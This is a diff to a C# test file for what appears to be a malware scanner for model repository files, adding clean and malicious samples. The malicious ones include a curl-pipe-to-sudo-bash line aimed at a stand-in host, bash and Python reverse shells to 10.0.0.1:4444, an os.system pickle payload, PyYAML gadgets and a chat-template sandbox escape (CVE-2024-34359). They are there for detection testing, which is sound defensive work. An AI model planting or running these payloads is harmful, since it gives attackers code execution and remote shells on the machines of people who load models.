@@ -13,6 +13,8 @@ public class HubTests
     [InlineData("sitecustomize.py", "x = 1")]
     [InlineData("evil.pth", "import os; os.system('id')")]
     [InlineData("x.pth", "/usr/lib\nimport x")]
+    [InlineData("install.sh", "#!/bin/sh\ncurl -s http://evil.example/i | sudo bash")]
+    [InlineData("modeling.py", "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")")]
     [InlineData("run.sh", "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1")]
     [InlineData("config.yaml", "model:\n  _target_: os.system\n  _args_: ['id']")]
     [InlineData("config.yaml", "!!python/object/apply:os.system ['id']")]
@@ -48,6 +50,7 @@ public class HubTests
 
     [Theory]
     [InlineData("README.md", "---\nlicense: mit\n---\n# Model\nUse `os.system` never.\n```python\nimport os\nos.system('id')\n```\ncurl -fsSL https://x.example/install.sh | sh")]
+    [InlineData("README.md", "<!-- a model -->\n<h1 align=center>Model<br>\n\nText & more")]
     [InlineData("LICENSE", "MIT License\n\nCopyright (c) 2024")]
     [InlineData("merges.txt", "#version: 0.2\nt h\nth e")]
     [InlineData("vocab.txt", "[PAD]\nimport\nos.system\n")]
@@ -64,6 +67,8 @@ public class HubTests
     [InlineData("MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n")]
     [InlineData("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==2.9\n  - scikit-learn==1.2\nname: mlflow-env\n")]
     [InlineData("modeling_z.py", "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x): return x\n")]
+    [InlineData("train.py", "import subprocess\ndef main():\n    print(subprocess.check_output(['git', 'rev-parse', 'HEAD']))\nif __name__ == '__main__':\n    main()\n")]
+    [InlineData("ci.yml", "jobs:\n  a:\n    steps:\n    - run: |\n        curl -sSL https://example.org/x.zip -o x\n        rm -rf ./x\n    - run: pip install git+https://example.org/x\n")]
     [InlineData("train.sh", "#!/bin/bash\nexport X=1\npython train.py --lr 1e-4\n")]
     [InlineData("n.ipynb", "{\"cells\": [{\"cell_type\": \"markdown\", \"source\": [\"# Title\\n\", \"It's a 'model'\"]}, {\"cell_type\": \"code\", \"source\": [\"!pip install torch\\n\", \"import torch\"]}]}")]
     [InlineData("config.yaml", "a: !!python/tuple [1, 2]\nb: &x {c: 1}\nd: *x\n")]
@@ -75,6 +80,20 @@ public class HubTests
 
     [Fact]
     public void CVE_2020_14343_PyYAML_object_new() => AssertVerdict(Verdict.Malicious, "x.yaml", "!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - [\"__import__('os').system('id')\"]");
+
+    [Fact]
+    public void CVE_2024_34359_chat_template_in_tokenizer_config() => AssertVerdict(Verdict.Malicious, "tokenizer_config.json", "{\"chat_template\": \"{% for x in ().__class__.__base__.__subclasses__() %}{% if \'warning\' in x.__name__ %}{{x()._module.__builtins__[\'__import__\'](\'os\').popen(\'id\').read()}}{% endif %}{% endfor %}\"}");
+
+    [Fact]
+    public void ShadowPickle_modules_beside_the_model()
+    {
+        AssertVerdict(Verdict.Malicious, "sitecustomize.py", "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444))");
+        AssertVerdict(Verdict.Suspicious, "collections.py", "class OrderedDict(dict):\n    pass\n");
+        AssertVerdict(Verdict.Malicious, "numpy.py", "def __getattr__(name):\n    import os\n    os.system('id')\n");
+    }
+
+    [Fact]
+    public void A_licence_in_Latin1_is_a_text() => Assert.Equal(Verdict.Clean, Scanned.Bytes([.. Samples.Text("Copyright (c) "), 0xa9, .. Samples.Text(" 2020 by nobody in particular")], "LICENSE").Verdict);
 
     [Fact]
     public void Chat_templates_are_members_of_their_own()
